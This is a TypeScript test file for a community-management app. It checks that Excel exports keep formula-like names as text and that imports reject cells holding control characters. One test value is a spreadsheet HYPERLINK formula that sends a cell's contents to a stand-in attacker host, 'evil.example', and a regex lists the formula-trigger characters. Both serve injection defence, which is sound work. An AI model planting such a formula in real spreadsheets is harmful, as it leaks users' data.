import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, Session, type TestContext } from '../support/app.js';
import { buildWorld } from '../support/factories.js';
import { testEngine } from '../support/db.js';
import { multipart, readXlsx, xlsxOf } from '../support/files.js';

// Excel in and out: text that looks like a formula leaves as text (CSV/Excel injection), and a
// sheet cell holding a control character is a bad row in the report, never a crash.

let ctx: TestContext;
let world: Awaited<ReturnType<typeof buildWorld>>;
let worker: Session;
let admin: Session;
let officer: Session;
const xlsxType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

beforeAll(async () => {
  ctx = await createTestApp();
  world = await buildWorld(ctx.deps);
  worker = await new Session(ctx).login('worker1');
  admin = await new Session(ctx).login('admin');
  officer = await new Session(ctx).login('officer');
});
afterAll(() => ctx.close());

// A spreadsheet evaluates a cell starting with one of these once it is edited or saved as CSV.
const formulaLike = (rows: string[][]) => rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"点我")';

describe(`Excel exports keep formulas as text (${testEngine})`, () => {
  it('exports residents whose names look like formulas as plain text', async () => {
    const names = ['=1+2', '@SUM(1,2)', '+8613800000000', '-陈阿姨'];
    for (const name of names)
      expect(
        (await worker.post('/api/v1/residents', { householdCode: world.inA.households[0].code, name })).status,
      ).toBe(201);
    const rows = await readXlsx((await worker.get('/api/v1/residents/export')).body);
    expect(formulaLike(rows)).toEqual([]);
    expect(
      rows
        .map((r) => r[0])
        .filter((n) => n.startsWith("'"))
        .sort(),
    ).toEqual(names.map((n) => `'${n}`).sort());
  });

  it('exports a grid named like a formula in the statistics sheet as plain text', async () => {
    expect((await admin.patch(`/api/v1/places/${world.gridA.code}`, { name: '+1网格' })).status).toBe(200);
    expect(
      (
        await worker.post('/api/v1/cases', {
          channel: 'hotline',
          placeCode: world.inA.households[0].code,
          description: '楼道灯坏了好几天了',
        })
      ).status,
    ).toBe(201);
    const sheet = await admin.get(
      `/api/v1/stats/breakdown.xlsx?under=${world.county.code}&from=2026-11-01&to=2026-11-30&by=grid`,
    );
    const rows = await readXlsx(sheet.body);
    expect(formulaLike(rows)).toEqual([]);
    expect(rows.map((r) => r[0])).toContain("'+1网格");
  });

  it('exports a duty item that looks like a formula as text, and reads it back as typed', async () => {
    const bytes = await xlsxOf(['类型', '编号', '大类', '事项'], [['自治事项', 'Z-1', '-居民自治', hyperlink]]);
    const first = await officer.request(
      'POST',
      `/api/v1/duty-lists/import?streetCode=${world.street.code}&title=v1&effectiveFrom=2026-01-01`,
      multipart({ file: { bytes, name: 'list.xlsx', type: xlsxType } }),
    );
    expect(first.status).toBe(201);
    const exported = await officer.get(`/api/v1/duty-lists/${first.body.id}/export.xlsx`);
    const rows = await readXlsx(exported.body);
    expect(formulaLike(rows)).toEqual([]);
    const again = await officer.request(
      'POST',
      `/api/v1/duty-lists/import?streetCode=${world.street.code}&title=v2&effectiveFrom=2027-01-01`,
      multipart({ file: { bytes: exported.body, name: 'export.xlsx', type: xlsxType } }),
    );
    expect(again.status).toBe(201);
    const items = (await officer.get(`/api/v1/duty-lists/${again.body.id}/items`)).body.items;
    expect(items.map((i: { className: string; itemName: string }) => [i.className, i.itemName])).toEqual([
      ['-居民自治', hyperlink],
    ]);
  });
});

describe(`Excel imports refuse control characters by row (${testEngine})`, () => {
  const header = [
    '姓名*',
    '身份证号',
    '手机号',
    '楼栋号*',
    '单元号*',
    '房号*',
    '与户主关系',
    '居住类型',
    '标签',
    '备注',
  ];
  const upload = (bytes: Buffer, name = '花名册.xlsx') =>
    worker.request(
      'POST',
      `/api/v1/residents/import?communityCode=${world.c1.code}&mode=valid-only`,
      multipart({ file: { bytes, name, type: xlsxType } }),
    );

  it('reports a resident row whose cell holds NUL or a line break, and imports the good rows', async () => {
    // Excel writes a control character as _x0000_; readers turn it back into the character.
    const bytes = await xlsxOf(header, [
      ['陈_x0000_阿姨', '', '', '1', '1', '101', '', '', '', ''],
      ['王\n大爷', '', '', '1', '1', '101', '', '', '', ''],
      ['赵阿姨', '', '', '1', '1', '102', '', '', '', '腿脚不便\n需上门_x0007_'],
      ['钱大姐', '', '', '1', '1', '102', '', '', '', '腿脚不便\n需上门'],
    ]);
    const res = await upload(bytes);
    expect(res.status).toBe(200);
    expect(
      res.body.errors.map((e: { row: number; column: string; code: string }) => [e.row, e.column, e.code]),
    ).toEqual([
      [2, 'name', 'bad_characters'],
      [3, 'name', 'bad_characters'],
      [4, 'notes', 'bad_characters'],
    ]);
    expect(res.body.imported).toBe(1);
    const kept = await ctx.deps.db
      .selectFrom('residents')
      .select(['name', 'notes'])
      .where('name', '=', '钱大姐')
      .executeTakeFirstOrThrow();
    expect(kept.notes).toBe('腿脚不便\n需上门');
  });

  it('records a file name with control characters without them', async () => {
    const res = await upload(
      await xlsxOf(header, [['孙大爷', '', '', '2', '1', '101', '', '', '', '']]),
      '花名\u0000册\u0007.xlsx',
    );
    expect([res.status, res.body.imported]).toEqual([200, 1]);
    const event = await ctx.deps.db
      .selectFrom('resident_events')
      .select('note')
      .where('kind', '=', 'imported')
      .orderBy('at', 'desc')
      .executeTakeFirstOrThrow();
    expect(event.note).toBe('花名册.xlsx');
  });

  it('refuses a duty list whose cell holds a control character, naming the row', async () => {
    const bytes = await xlsxOf(
      ['类型', '编号', '大类', '事项'],
      [
        ['自治事项', 'Z-1', '居民自治', '调解_x0000_纠纷'],
        ['自治事项', 'Z-2', '居民自治', '组织_x001B_活动'],
      ],
    );
    const res = await officer.request(
      'POST',
      `/api/v1/duty-lists/import?streetCode=${world.street.code}&title=v9&effectiveFrom=2028-01-01`,
      multipart({ file: { bytes, name: 'list.xlsx', type: xlsxType } }),
    );
    expect(res.status).toBe(422);
    expect(res.body.error.code).toBe('IMPORT_HAS_ERRORS');
    expect(res.body.error.details.errors.map((e: { row: number }) => e.row)).toEqual([2, 3]);
  });
});
